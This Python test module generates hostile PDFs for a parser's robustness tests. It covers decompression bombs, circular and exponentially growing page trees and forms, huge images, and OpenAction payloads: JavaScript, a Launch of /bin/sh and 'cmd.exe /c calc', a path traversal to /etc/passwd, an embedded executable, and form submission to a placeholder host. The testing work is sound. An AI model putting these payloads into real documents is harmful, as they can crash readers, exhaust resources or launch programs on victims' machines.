"""PDF made to do harm: loops, bombs, scripts, pages without end or of no size, pictures of a hundred thousand dots."""
# ruff: noqa: E501 - one file a line

import base64
import zlib
from collections.abc import Callable, Mapping

from tests.hostile.wanted import NOBODY, PROSE, TITLE, Hostile, Wanted, files
from tests.read.tiny import assemble, stream, tiny

LINES = [TITLE, PROSE]
CATALOGUE = "<< /Type /Catalog /Pages 2 0 R >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R /Y 6 0 R >> >> >>"


def made(**more: str) -> bytes:
    """Return a PDF of one page; ``more`` are objects by their numbers, ``o4`` for the fourth."""
    objects = {
        1: CATALOGUE,
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE,
        4: stream("/X Do"),
        **{int(name[1:]): told for name, told in more.items()},
    }
    return assemble(dict(sorted(objects.items())))


def good(old: str = "", new: str = "", extra: str = "") -> bytes:
    """Return a PDF with words, ``old`` in it replaced by ``new``. The places in its table may be wrong then."""
    return tiny(LINES, extra=extra, digits="0123456789").replace(old.encode(), new.encode()) if old else tiny(
        LINES, extra=extra, digits="0123456789"
    )  # fmt: skip


def form(content: str, names: str = "/X 5 0 R") -> str:
    return (
        "<< /Type /XObject /Subtype /Form /BBox [0 0 595 842]"
        f" /Resources << /XObject << {names} >> >> /Length {len(content)} >>\nstream\n{content}\nendstream"
    )


def forms(depth: int, width: int) -> bytes:
    """Return forms of which each draws the next several times: width to the power of depth in all."""
    more = {f"o{n}": form("/X Do " * width, f"/X {n + 1} 0 R") for n in range(5, 5 + depth)}
    last = (
        "<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Length 11 >>\nstream\n0 0 9 9 re f\nendstream"
    )
    return made(**more, **{f"o{5 + depth}": last})


def picture(width: int, height: int, filters: str, data: bytes, more: str = "") -> str:
    return (
        f"<< /Type /XObject /Subtype /Image /Width {width} /Height {height} /ColorSpace /DeviceGray"
        f" /BitsPerComponent 8 /Filter {filters} {more} /Length {2 * len(data) + 1} >>\nstream\n{data.hex()}>\nendstream"
    )


def drawn(
    width: int, height: int, filters: str = "[/ASCIIHexDecode /FlateDecode]", data: bytes = b""
) -> bytes:
    inner = data or zlib.compress(bytes(10_000))
    return made(o4=stream("595 0 0 842 0 0 cm /X Do"), o5=picture(width, height, filters, inner))


def sized(box: str) -> bytes:
    return good("/MediaBox [0 0 595 842]", f"/MediaBox [{box}]")


def bomb(filters: str, packed: bytes) -> bytes:
    data = packed.decode("latin-1")
    told = f"<< /Length {len(packed)} /Filter {filters} >>\nstream\n{data}\nendstream"
    marked = assemble(
        {1: CATALOGUE, 2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: PAGE, 4: "HOLE", 5: form("")}
    )
    return marked.replace(b"HOLE", told.encode("latin-1"))


def deflated(size: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(b" " * 1_000_000) for _ in range(size)) + packer.flush()


def object_stream(loops: bool) -> bytes:
    """Return a PDF whose objects lie in a stream that lies in itself."""
    inner = "1 0 2 40 <</Type/Catalog/Pages 2 0 R>>                  <</Type/Pages/Kids[]/Count 0>>"
    extends = " /Extends 7 0 R" if loops else ""
    data = b"%PDF-1.7\n"
    at = len(data)
    data += f"7 0 obj\n<< /Type /ObjStm /N 2 /First 9{extends} /Length {len(inner)} >>\nstream\n{inner}\nendstream\nendobj\n".encode()
    place = len(data)
    rows = b"".join(
        bytes((kind, *(number >> shift & 255 for shift in (16, 8, 0)), last))
        for kind, number, last in ((0, 0, 255), (2, 7, 0), (2, 7, 1), (1, place, 0), (0, 0, 0), (0, 0, 0), (0, 0, 0), (2 if loops else 1, 7 if loops else at, 0))
    )  # fmt: skip
    head = f"3 0 obj\n<< /Type /XRef /Size 8 /W [1 3 1] /Root 1 0 R /Length {len(rows)} >>\nstream\n".encode()
    return data + head + rows + f"\nendstream\nendobj\nstartxref\n{place}\n%%EOF\n".encode()


def wide_tree(depth: int, width: int) -> bytes:
    """Return a tree of pages of which each holds the next several times."""
    objects = {1: CATALOGUE}
    for n in range(2, 2 + depth):
        objects[n] = (
            f"<< /Type /Pages /Kids [{f'{n + 1} 0 R ' * width}] /Count {width ** (depth + 1 - n + 1)} >>"
        )
    objects[2 + depth] = PAGE.replace("4 0 R", f"{depth + 3} 0 R")
    objects[depth + 3] = stream("")
    return assemble(objects)


def deep_array(depth: int) -> bytes:
    return good("/Type /Catalog", "/Type /Catalog /A " + "[" * depth + "]" * depth)


def action(told: str) -> Callable[[], bytes]:
    return lambda: good("/Type /Catalog", f"/Type /Catalog /OpenAction << {told} >>")


GOOD_PDF: Mapping[str, Callable[[], bytes]] = {
    "pdf with a script": action("/S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:9/'\\))"),
    "pdf with a script without end": action("/S /JavaScript /JS (while \\(true\\) {})"),
    "pdf that starts a program": action("/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>"),
    "pdf that goes to an address": action(f"/S /URI /URI ({NOBODY}/)"),
    "pdf that sends a form": action(f"/S /SubmitForm /F << /FS /URL /F ({NOBODY}/) >>"),
    "pdf that opens another file": action("/S /GoToR /F (../../../etc/passwd) /D [0 /Fit]"),
    "pdf that takes in data": action(f"/S /ImportData /F ({NOBODY}/a.fdf)"),
    "pdf with actions of the page": lambda: good(extra="/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
    "pdf with an embedded program": lambda: good(
        "/Type /Catalog", "/Type /Catalog /Names << /EmbeddedFiles << /Names [(a.exe) << /F (a.exe) /EF << /F 4 0 R >> >>] >> >>"
    ),
    "pdf with a form of XML": lambda: good("/Type /Catalog", f"/Type /Catalog /AcroForm << /XFA (<xdp:xdp><a href='{NOBODY}'/></xdp:xdp>) >>"),
    "pdf with actions in a circle": lambda: good("/Type /Catalog", "/Type /Catalog /OpenAction 9 0 R /Next 9 0 R"),
    "pdf with garbage behind": lambda: good() + bytes(range(256)) * 4000,
    "pdf with a link of a script": lambda: good(
        extra="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]"
    ),
}  # fmt: skip

ANY_PDF: Mapping[str, Callable[[], bytes]] = {
    "pdf page of a million points": lambda: sized("0 0 1000000 1000000"),
    "pdf page without room": lambda: sized("0 0 0 0"),
    "pdf page of one point": lambda: sized("0 0 1 1"),
    "pdf page turned inside out": lambda: sized("595 842 0 0"),
    "pdf page of no numbers": lambda: sized("/a (b) null <<>>"),
    "pdf page beyond all numbers": lambda: sized("0 0 1e38 9999999999999999999999"),
    "pdf page far away": lambda: sized("-2147483648 -2147483648 2147483647 2147483647"),
    "pdf page in a strip": lambda: sized("0 0 100000 1"),
    "pdf page turned by 45": lambda: good(extra="/Rotate 45"),
    "pdf page turned often": lambda: good(extra="/Rotate 99999990"),
    "pdf page of large units": lambda: good(extra="/UserUnit 1e9"),
    "pdf page of small units": lambda: good(extra="/UserUnit 0"),
    "pdf page cut outside": lambda: good(extra="/CropBox [5000 5000 6000 6000]"),
    "pdf type of no size": lambda: good(" 16 Tf", " 0 Tf"),
    "pdf type of a huge size": lambda: good(" 16 Tf", " 1e30 Tf"),
    "pdf type far outside": lambda: good("1 0 0 1 80", "1 0 0 1 9999999999"),
    "pdf type that is mirrored": lambda: good("1 0 0 1 80", "-1 0 0 -1 80"),
    "pdf tables wrong": lambda: good("startxref", "startxref\n999999999\n%"),
    "pdf tables in a circle": lambda: good("trailer\n<<", "trailer\n<< /Prev 9"),
    "pdf deep arrays": lambda: deep_array(20_000),
    "pdf of dictionaries in dictionaries": lambda: good("/Type /Catalog", "/Type /Catalog /A " + "<< /A " * 20_000),
    "pdf of strings in strings": lambda: good("/Type /Catalog", "/Type /Catalog /A " + "(" * 200_000),
    "pdf font that draws itself": lambda: good("/Subtype /Type0", "/Subtype /Type3 /CharProcs << /a 4 0 R >> /FontMatrix [1 0 0 1 0 0]"),
    "pdf length that points to itself": lambda: made(o4="<< /Length 4 0 R >>\nstream\n/X Do\nendstream", o5=form("")),
    "pdf length below nothing": lambda: made(o4="<< /Length -1 >>\nstream\n/X Do\nendstream", o5=form("")),
    "pdf length of everything": lambda: made(o4="<< /Length 4294967295 >>\nstream\n/X Do\nendstream", o5=form("")),
    "pdf map of all characters": lambda: good("begincmap", "begincmap 1 beginbfrange <0000> <FFFF> <0000> endbfrange"),
}  # fmt: skip

BAD_PDF: Mapping[str, Callable[[], bytes]] = {
    "pdf of 10,000 pages": lambda: made(o2=f"<< /Type /Pages /Kids [{'3 0 R ' * 10_000}] /Count 10000 >>"),
    "pdf of a billion pages": lambda: made(o2="<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>"),
    "pdf of fewer pages than none": lambda: made(o2="<< /Type /Pages /Kids [3 0 R] /Count -5 >>"),
    "pdf tree in a circle": lambda: made(o2="<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
    "pdf tree in a circle of two": lambda: made(
        o2="<< /Type /Pages /Kids [3 0 R] /Count 9 >>", o3="<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 9 >>"
    ),
    "pdf tree that doubles": lambda: wide_tree(30, 2),
    "pdf tree that is deep": lambda: wide_tree(3000, 1),
    "pdf form of itself": lambda: made(o5=form("/X Do")),
    "pdf forms of each other": lambda: made(o5=form("/X Do", "/X 6 0 R"), o6=form("/X Do", "/X 5 0 R")),
    "pdf forms that double": lambda: forms(26, 2),
    "pdf forms that grow tenfold": lambda: forms(12, 10),
    "pdf object stream of itself": lambda: object_stream(loops=True),
    "pdf object stream, damaged": lambda: object_stream(loops=False),
    "pdf picture 100,000 square": lambda: drawn(100_000, 100_000),
    "pdf picture of all numbers": lambda: drawn(2_147_483_647, 2_147_483_647),
    "pdf picture of no dots": lambda: drawn(0, 0),
    "pdf picture in JPEG 100,000 square": lambda: drawn(
        60_000, 60_000, "[/ASCIIHexDecode /DCTDecode]",
        bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffc0000b08ea60ea6001011100ffda0008010100003f00") + bytes(99)
    ),
    "pdf picture in JBIG2": lambda: drawn(60_000, 60_000, "[/ASCIIHexDecode /JBIG2Decode]", bytes(200)),
    "pdf picture in JPX": lambda: drawn(
        9000, 9000, "[/ASCIIHexDecode /JPXDecode]", bytes.fromhex("0000000c6a5020200d0a870aff4fff51") + bytes(200)
    ),
    "pdf picture in CCITT": lambda: drawn(100_000, 100_000, "[/ASCIIHexDecode /CCITTFaxDecode]", bytes(2000)),
    "pdf bomb": lambda: bomb("/FlateDecode", deflated(300)),
    "pdf bomb in a bomb": lambda: bomb("[/FlateDecode /FlateDecode]", zlib.compress(deflated(300))),
    "pdf bomb in letters": lambda: bomb("[/ASCII85Decode /FlateDecode]", base64.a85encode(deflated(300)) + b"~>"),
    "pdf bomb in hex": lambda: bomb("[/ASCIIHexDecode /FlateDecode]", deflated(300).hex().encode() + b">"),
    "pdf bomb by run lengths": lambda: bomb("[/FlateDecode /RunLengthDecode]", zlib.compress(b"\x81 " * 8_000_000, 9)),
    "pdf bomb, thrice": lambda: bomb("[/FlateDecode /ASCIIHexDecode /FlateDecode]", zlib.compress(deflated(300).hex().encode())),
    "pdf of a million lines": lambda: made(o4=stream("0 0 m 9 9 l S\n" * 1_000_000)),
    "pdf of a million states": lambda: made(o4=stream("q " * 1_000_000)),
    "pdf of a million letters": lambda: made(o4=stream("BT /F 9 Tf (" + "a" * 1_000_000 + ") Tj ET"), o5=form("")),
    "pdf locked by another handler": lambda: good("/Root 1 0 R", "/Root 1 0 R /Encrypt << /Filter /Foo /V 99 /R 99 >>"),
    "pdf locked with a password": lambda: good(
        "/Root 1 0 R",
        f"/Root 1 0 R /ID [<{'ab' * 16}> <{'ab' * 16}>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44"
        f" /O <{'12' * 32}> /U <{'34' * 32}> >>",
    ),
    "pdf of nothing": lambda: b"%PDF-1.7\n%%EOF",
    "pdf of its head": lambda: b"%PDF-1.7",
    "pdf cut in half": lambda: good()[: len(good()) // 4],
    "pdf of noise": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 4000,
    "pdf of brackets": lambda: b"%PDF-1.7\n1 0 obj\n" + b"[" * 2_000_000,
    "pdf of objects": lambda: b"%PDF-1.7\n" + b"1 0 obj endobj " * 200_000,
    "pdf of streams": lambda: b"%PDF-1.7\n" + b"stream\n" * 500_000,
}  # fmt: skip

PDF: dict[str, Hostile] = {
    **files(".pdf", Wanted.READ, GOOD_PDF),
    **files(".pdf", Wanted.EITHER, ANY_PDF),
    **files(".pdf", Wanted.REFUSED, BAD_PDF),
}
